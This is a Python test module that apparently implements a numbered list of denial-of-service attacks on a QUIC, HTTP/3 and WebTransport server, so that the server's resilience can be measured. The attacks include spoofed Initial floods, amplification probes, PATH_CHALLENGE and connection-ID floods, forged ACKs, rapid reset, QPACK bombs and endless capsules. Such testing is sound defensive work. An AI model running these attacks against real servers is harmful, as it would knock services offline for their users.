"""The attacks of the threat list, each as a function of a victim's address and a scale.

All end by themselves in seconds. `scale` 1.0 is what the slow tests and the table use.
"""

import functools
import time
from collections.abc import Callable
from dataclasses import dataclass

import pylsqpack
from aioquic.h3.connection import FrameType, encode_frame
from aioquic.tls import Epoch
from tests.attack.attacker import (
    Address,
    Attacker,
    Crowd,
    ack_frame,
    crypto_frame,
    stream_frame,
    varint,
)
from tests.attack.fuzz import mutate

CROWD = 300
"""Connections of T20."""


@dataclass
class Shot:
    """What an attack spent and saw."""

    sent_bytes: int = 0
    received_bytes: int = 0
    closed_with: int | None = None
    note: str = ""


def shot(attacker: Attacker, note: str = "", wait: float = 0.3) -> Shot:
    """See whether the victim closes, and add up."""
    if attacker.closed is None:
        attacker.pump(wait, lambda: attacker.closed is not None)
    code = attacker.closed.error_code if attacker.closed is not None else None
    return Shot(attacker.sent_bytes, attacker.received_bytes, code, note)


def initial_flood(address: Address, scale: float) -> Shot:
    """T1: first packets from spoofed sources, nobody answers what comes back."""
    with Crowd(address) as crowd:
        for number in range(int(1500 * scale)):
            crowd.send(crowd.initial(), crowd.source())
            if number % 25 == 24:  # no faster than a naive server takes them
                crowd.answers(0.03)
        crowd.answers(0.2)
        return Shot(crowd.sent_bytes, crowd.received_bytes)


def amplification(address: Address, scale: float) -> Shot:
    """T2: one first packet each from a few spoofed sources; the answers are counted."""
    with Crowd(address) as crowd:
        for _ in range(10):
            crowd.send(crowd.initial(), crowd.source())
        crowd.answers(3.0 * scale)
        return Shot(crowd.sent_bytes, crowd.received_bytes)


def version_zero(address: Address, scale: float) -> Shot:
    """T3: Version Negotiation packets, which must not be answered."""
    with Crowd(address) as crowd:
        for _ in range(int(500 * scale)):
            data = b"\xc0" + bytes(4) + b"\x08" + crowd.rng.randbytes(8) + b"\x08" + bytes(8)
            crowd.send(data + bytes(1200 - len(data)), crowd.source())
        crowd.answers(0.2)
        return Shot(crowd.sent_bytes, crowd.received_bytes)


def path_challenges(address: Address, scale: float) -> Shot:
    """T5: 100,000 PATH_CHALLENGE frames; no answer is acknowledged."""
    with Attacker(address).connect() as attacker:
        attacker.mute()
        for number in range(int(800 * scale)):
            frames = b"".join(
                b"\x1a" + number.to_bytes(4) + bytes([0, 0, 0, i]) for i in range(125)
            )
            attacker.forge(frames)
            if number % 20 == 19:
                attacker.pump(0.005)
        return shot(attacker)


def connection_ids(address: Address, scale: float) -> Shot:
    """T6: NEW_CONNECTION_ID that retires its forerunner, RETIRE_... never acknowledged."""
    with Attacker(address).connect() as attacker:
        attacker.mute()
        attacker.keep_ids()
        for first in range(8, max(6_000, int(20_000 * scale)), 25):
            frames = b"".join(
                b"\x18" + varint(i, i) + b"\x08" + i.to_bytes(8) + i.to_bytes(16)
                for i in range(first, first + 25)
            )
            for sequence in range(first, first + 25):
                attacker.answer_to(sequence.to_bytes(8), sequence)
            attacker.forge(frames)
            if first % 250 == 8:  # many at a time, more than are answered between two of them
                attacker.pump(0.002)
            if attacker.closed is not None:
                break
        return shot(attacker)


def retirements(address: Address, scale: float) -> Shot:
    """T6: all connection IDs that the victim issues are retired as soon as they come."""
    with Attacker(address).connect() as attacker:
        for _ in range(int(100 * scale)):
            for _ in range(6):
                attacker.quic.change_connection_id()
            attacker.pump(0.005)
        return shot(attacker)


def crypto_gaps(address: Address, scale: float) -> Shot:
    """T7: one byte of a handshake, half a megabyte ahead, from spoofed sources."""
    with Crowd(address) as crowd:
        for number in range(int(300 * scale)):
            crowd.send(crowd.initial(crypto_frame(500_000, b"x")), crowd.source())
            if number % 25 == 24:  # no faster than a naive server takes them
                crowd.answers(0.03)
        crowd.answers(0.2)
        return Shot(crowd.sent_bytes, crowd.received_bytes)


def sparse_offsets(address: Address, scale: float) -> Shot:
    """T8: single bytes as far ahead as the victim allows, on as many streams as it allows."""
    with Attacker(address).connect() as attacker:
        quic, used = attacker.quic, 0
        for _ in range(int(126 * scale)):
            window = quic._remote_max_stream_data_bidi_remote
            offset = min(window, quic._remote_max_data - used) - 1
            if offset < 0:
                attacker.pump(0.2, lambda: quic._remote_max_data - used > 0)  # noqa: B023
                if quic._remote_max_data - used <= 0:
                    break
                continue
            attacker.forge(stream_frame(attacker.open(), offset, b"x"))
            used += offset + 1
            attacker.pump(0.01)
        return shot(attacker, f"{used} bytes claimed")


def far_offsets(address: Address, scale: float) -> Shot:
    """T8: offsets beyond every limit."""
    with Attacker(address).connect() as attacker:
        attacker.forge(stream_frame(0, 1 << 40, b"x"))
        return shot(attacker)


def scattered(address: Address, scale: float) -> Shot:
    """T8: every other byte of one stream, so that nothing can be joined."""
    with Attacker(address).connect() as attacker:
        for first in range(1, int(50_000 * scale), 200):
            attacker.forge(b"".join(stream_frame(0, i, b"x") for i in range(first, first + 200, 2)))
            attacker.pump(0.002)
            if attacker.closed is not None:
                break
        return shot(attacker)


def unread(address: Address, scale: float) -> Shot:
    """T9: as much as the victim's flow control takes, to an application that stopped reading."""
    with Attacker(address).connect() as attacker:
        stream = attacker.open(b"deaf")
        attacker.pump(0.2)
        attacker.quic.send_stream_data(stream, bytes(int(40_000_000 * scale)))
        attacker.pump(4.0 * scale)
        return shot(attacker)


def unheard(address: Address, scale: float) -> Shot:
    """T9: bytes that come back, to a client that takes none of them."""
    with Attacker(address, max_data=20_000, max_stream_data=20_000).connect() as attacker:
        attacker.stop_crediting()
        attacker.open(bytes(int(40_000_000 * scale)))
        attacker.pump(4.0 * scale)
        return shot(attacker)


def forged_acks(address: Address, scale: float) -> Shot:
    """T10: ACKs of packets that were never sent."""
    with Attacker(address).connect() as attacker:
        attacker.open(bytes(5000))
        attacker.pump(0.05)
        for _ in range(20):
            attacker.forge(ack_frame(100_000, first=99_000))
        return shot(attacker)


def ack_ranges(address: Address, scale: float) -> Shot:
    """T11: ACKs with hundreds of ranges, again and again."""
    with Attacker(address).connect() as attacker:
        stream = attacker.open()
        for _ in range(400):
            attacker.quic.send_stream_data(stream, bytes(1000))
            attacker.pump(0.002)
        attacker.pump(0.2)
        largest = max(r.stop for r in attacker.quic._spaces[Epoch.ONE_RTT].ack_queue) - 1
        frames = ack_frame(largest, *([0, 0] * (largest // 2 - 20)))
        for number in range(int(1000 * scale)):
            attacker.forge(frames)
            if number % 20 == 19:
                attacker.pump(0.001)
        return shot(attacker)


def rapid_reset(address: Address, scale: float) -> Shot:
    """T12: streams opened and abandoned at once, as fast as they are allowed."""
    with Attacker(address).connect() as attacker:
        for _ in range(int(60 * scale)):
            for _ in range(50):
                if attacker.open_streams_left <= 0:
                    break
                stream = attacker.open(b"x")
                attacker.flush()
                attacker.quic.reset_stream(stream, 0)
            attacker.pump(0.02, lambda: attacker.closed)
            if attacker.closed is not None:
                break
        return shot(attacker)


def h3(address: Address) -> Attacker:
    """Connect as HTTP/3 and send SETTINGS."""
    attacker = Attacker(address, alpn="h3").connect()
    attacker.open(b"\x00" + encode_frame(FrameType.SETTINGS, b"\x33\x01"), bidirectional=False)
    return attacker


def wt(address: Address) -> tuple[Attacker, int]:
    """Open a WebTransport session; returns its stream."""
    attacker = h3(address)
    attacker.pump(0.1)
    fields = {
        ":method": "CONNECT",
        ":scheme": "https",
        ":authority": "localhost",
        ":path": "/",
        ":protocol": "webtransport",
        "sec-webtransport-http3-draft02": "1",
        "wt-available-protocols": '"moq-lite-06"',
    }
    pairs = [(name.encode(), value.encode()) for name, value in fields.items()]
    _, section = pylsqpack.Encoder().encode(0, pairs)
    session = attacker.open(encode_frame(FrameType.HEADERS, section))
    if not attacker.pump(5, lambda: attacker.data.get(session)):
        raise TimeoutError(f"no session: {attacker.closed}")
    return attacker, session


def qpack_bomb(address: Address, scale: float) -> Shot:
    """T13: one table entry of 3.5 kB, and a field section that names it 64,000 times."""
    with h3(address) as attacker:
        capacity = b"\x3f" + bytes([(4096 - 31) & 0x7F | 0x80, (4096 - 31) >> 7])
        name = b"\x41x"
        length = 3500
        value = b"\x7f" + bytes([(length - 127) & 0x7F | 0x80, (length - 127) >> 7])
        attacker.open(b"\x02" + capacity + name + value + b"v" * length, bidirectional=False)
        attacker.pump(0.1)
        section = b"\x02\x00" + b"\x80" * int(64_000 * scale)
        attacker.open(encode_frame(FrameType.HEADERS, section), fin=True)
        attacker.pump(1.0, lambda: attacker.closed)
        return shot(attacker)


def static_bomb(address: Address, scale: float) -> Shot:
    """T13: as many fields of QPACK's static table as a small section holds, many times."""
    with h3(address) as attacker:
        section = b"\x00\x00" + b"\xff\x16" * 4000  # index 85, the longest of the table
        for _ in range(int(20 * scale)):
            attacker.open(encode_frame(FrameType.HEADERS, section), fin=True)
        attacker.pump(0.5, lambda: attacker.closed)
        return shot(attacker)


def capsules(address: Address, scale: float) -> Shot:
    """T14: a close capsule of a megabyte."""
    attacker, session = wt(address)
    with attacker:
        capsule = varint(0x2843, 1 << 20) + bytes(int((1 << 20) * scale))
        attacker.quic.send_stream_data(session, encode_frame(FrameType.DATA, capsule))
        attacker.pump(1.0, lambda: attacker.closed)
        return shot(attacker)


def endless_capsule(address: Address, scale: float) -> Shot:
    """T14: a capsule of an unknown kind, without an end."""
    attacker, session = wt(address)
    with attacker:
        size = int(8_000_000 * scale)
        capsule = varint(0x1234, 1 << 40) + bytes(size)
        attacker.quic.send_stream_data(session, encode_frame(FrameType.DATA, capsule))
        attacker.pump(4.0 * scale, lambda: attacker.closed)
        return shot(attacker)


def unknown_sessions(address: Address, scale: float) -> Shot:
    """T15: streams and datagrams of sessions that nobody opened."""
    with h3(address) as attacker:
        attacker.pump(0.05)
        for number in range(int(400 * scale)):
            session = varint(4 * (number + 100))
            attacker.open(varint(0x54) + session + bytes(2000), bidirectional=False)
            if number < 100:
                attacker.open(varint(0x41) + session + bytes(2000))
            attacker.quic.send_datagram_frame(varint(number + 100) + bytes(1000))
        attacker.pump(2.0 * scale, lambda: attacker.closed)
        return shot(attacker)


def mutations(address: Address, scale: float) -> Shot:
    """T16: broken first packets, and broken frames in packets that decrypt."""
    sent = received = 0
    with Crowd(address, seed=16) as crowd:
        for number in range(int(3000 * scale)):
            crowd.send(mutate(crowd, number), crowd.source())
            if number % 25 == 24:  # no faster than a naive server takes them
                crowd.answers(0.03)
        crowd.answers(0.2)
        sent, received = crowd.sent_bytes, crowd.received_bytes
        for _ in range(int(60 * scale)):
            with Attacker(address).connect() as attacker:
                for _ in range(5):
                    attacker.forge(crowd.rng.randbytes(crowd.rng.randrange(1, 1000)))
                attacker.pump(0.02, lambda: attacker.closed)
                sent += attacker.sent_bytes
                received += attacker.received_bytes
    return Shot(sent, received)


def spoofed_rebind(address: Address, scale: float) -> Shot:
    """T19: genuine packets of a connection, sent on from spoofed addresses; the victim moves."""
    with Crowd(address) as crowd, Attacker(address).connect() as honest:
        for _ in range(int(40 * scale)):
            crowd.send(honest.seal(b"\x01", size=60), crowd.source())
            crowd.answers(0.01)
        crowd.answers(0.3)
        back = honest.ask(b"are you still there?")
        return Shot(crowd.sent_bytes, crowd.received_bytes, note=back.decode())


def crowd_to_close(address: Address, scale: float) -> Callable[[], Shot]:
    """T20: hundreds of connections, there and idle; what is returned closes all in one go."""
    crowd: list[Attacker] = []
    for number in range(round(CROWD * scale)):
        # From many networks, as one has its limits.
        attacker = Attacker(address, source=f"127.{1 + number % 200}.20.1").connect(30.0)
        attacker.pump(0.002)  # acknowledges the last of the handshake, which is sent again else
        crowd.append(attacker)
        if number % 500 == 499:
            for attacker in crowd:
                attacker.pump(0.0)  # or the first would be lost before the last is there

    def close() -> Shot:
        before = sum(a.sent_bytes for a in crowd), sum(a.received_bytes for a in crowd)
        last_words = []
        for attacker in crowd:
            attacker.quic.close()
            last_words += [
                (attacker, data) for data, _ in attacker.quic.datagrams_to_send(time.monotonic())
            ]
        for attacker, data in last_words:
            attacker.send(data)
        for attacker in crowd:
            attacker.socket.close()
        sent, received = sum(a.sent_bytes for a in crowd), sum(a.received_bytes for a in crowd)
        return Shot(sent - before[0], received - before[1])

    return close


def mass_close(address: Address, scale: float) -> Shot:
    """T20: hundreds of connections, closed in one go."""
    return crowd_to_close(address, scale)()


Attack = Callable[[Address, float], Shot]

ATTACKS: dict[str, Attack] = {
    "T1 initial flood": initial_flood,
    "T2 amplification": amplification,
    "T3 version 0": version_zero,
    "T5 path challenges": path_challenges,
    "T6 new connection ids": connection_ids,
    "T6 retirements": retirements,
    "T7 crypto gaps": crypto_gaps,
    "T8 sparse offsets": sparse_offsets,
    "T8 beyond the limits": far_offsets,
    "T8 scattered bytes": scattered,
    "T9 unread": unread,
    "T9 unheard": unheard,
    "T10 forged acks": forged_acks,
    "T11 ack ranges": ack_ranges,
    "T12 rapid reset": rapid_reset,
    "T13 qpack bomb": qpack_bomb,
    "T13 static table": static_bomb,
    "T14 large capsule": capsules,
    "T14 endless capsule": endless_capsule,
    "T15 unknown sessions": unknown_sessions,
    "T16 mutations": mutations,
    "T19 spoofed rebind": spoofed_rebind,
    "T20 mass close": mass_close,
}

PREPARED: dict[str, Callable[[Address, float], Callable[[], Shot]]] = {
    "T20 mass close": crowd_to_close,
}
"""Attacks that are preceded by something harmless, which is not measured."""


def aim(row: str, address: Address, scale: float) -> Callable[[], Shot]:
    """Prepare an attack; what is returned carries it out."""
    if row in PREPARED:
        return PREPARED[row](address, scale)
    return functools.partial(ATTACKS[row], address, scale)
